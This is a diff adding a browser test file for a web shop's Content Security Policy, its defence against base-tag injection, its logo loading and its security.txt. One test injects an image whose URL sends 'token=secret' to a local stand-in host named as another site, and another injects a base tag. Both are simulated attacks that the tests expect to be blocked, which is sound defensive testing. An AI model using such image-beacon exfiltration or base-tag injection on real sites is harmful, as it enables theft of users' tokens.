@@ -1,0 +1,102 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { afterAll, beforeAll, expect, inject, test } from 'vitest';
+import { openDatabase } from '#api/database/open.ts';
+import { write } from '#api/database/transaction.ts';
+import { readSettings, saveSettings } from '#api/services/store/settings.ts';
+import { startSmallShop } from '#tests/support/browser/shared-shops.ts';
+import { newDataDir, type RunningShop, startShop } from '#tests/support/browser/shop-server.ts';
+import { openPage } from '#tests/support/browser/test-page.ts';
+
+/** Another site: counts what it is asked for, and answers with a picture. */
+const asked: string[] = [];
+const foreign = createServer((request, response) => {
+  asked.push(request.url ?? '');
+  response.writeHead(200, { 'content-type': 'image/svg+xml' });
+  response.end('<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"/>');
+});
+let elsewhere: string;
+let shop: RunningShop;
+
+beforeAll(async () => {
+  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
+  elsewhere = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
+  shop = await startShop(newDataDir(inject('demoTemplate')), { METRICS_TOKEN: 'm3trics' });
+});
+afterAll(async () => {
+  await shop?.stop();
+  foreign.close();
+});
+
+const metrics = async (): Promise<string> =>
+  (await fetch(`${shop.url}/metrics`, { headers: { authorization: 'Bearer m3trics' } })).text();
+
+test('an injected picture reaches no other site, and the shop is told', async () => {
+  const { page } = await openPage();
+  await page.goto(shop.url);
+  const report = page.waitForRequest((request) => request.url() === `${shop.url}/csp-reports`);
+  const blocked = await page.evaluate(
+    (source) =>
+      new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
+        const picture = document.createElement('img');
+        picture.src = source;
+        document.body.append(picture);
+      }),
+    `${elsewhere}/steal.gif?token=secret`,
+  );
+  expect(blocked).toBe('img-src');
+  expect((await (await report).response())?.status()).toBe(204);
+  expect(asked).toEqual([]);
+  expect(await metrics()).toContain('shop_csp_violations_total{directive="img-src"} 1');
+});
+
+test('an injected base address is ignored', async () => {
+  const { page } = await openPage();
+  await page.goto(shop.url);
+  const resolved = await page.evaluate((base) => {
+    const element = document.createElement('base');
+    element.href = base;
+    document.head.prepend(element);
+    return new URL('/cart', document.baseURI).origin;
+  }, elsewhere);
+  expect(resolved).toBe(shop.url);
+});
+
+test('a picture that an owner left at its address is shown, from a store inside and from one elsewhere', async () => {
+  const own = await startSmallShop();
+  try {
+    const db = await openDatabase(own.dataDir);
+    await write(db, async (tx) => saveSettings(tx, { ...(await readSettings(tx)), logo: `${elsewhere}/logo.svg` }));
+    await db.destroy();
+    const site = await startShop(newDataDir(), { STORE_API_URL: `${own.url}/api` });
+    try {
+      for (const url of [own.url, site.url]) {
+        asked.length = 0;
+        const { page, pageErrors } = await openPage();
+        const response = await page.goto(url);
+        expect(response?.headers()['content-security-policy']).toMatch(new RegExp(`img-src 'self' data:[^;]* ${elsewhere}[ ;]`));
+        await expect.poll(() => asked).toContain('/logo.svg');
+        expect(pageErrors).toEqual([]);
+      }
+    } finally {
+      await site.stop();
+    }
+  } finally {
+    await own.stop();
+  }
+});
+
+test('whom to tell of a security problem stands where researchers look, and nowhere without an address', async () => {
+  const path = '/.well-known/security.txt';
+  const told = await fetch(shop.url + path);
+  expect([told.status, told.headers.get('content-type')]).toEqual([200, 'text/plain; charset=utf-8']);
+  const [, contact, expires] =
+    /^Contact: mailto:(\S+)\nExpires: (\S+)\nPreferred-Languages: en, hi\n$/.exec(await told.text()) ?? [];
+  expect(contact).toMatch(/^[^@]+@[^@]+$/);
+  const days = (Date.parse(expires as string) - Date.now()) / 86_400_000;
+  expect(days).toBeGreaterThan(150);
+  expect(days).toBeLessThan(365);
+  await shop.store('theme', 'set', 'legal.support_email=');
+  expect((await fetch(shop.url + path)).status).toBe(404);
+});
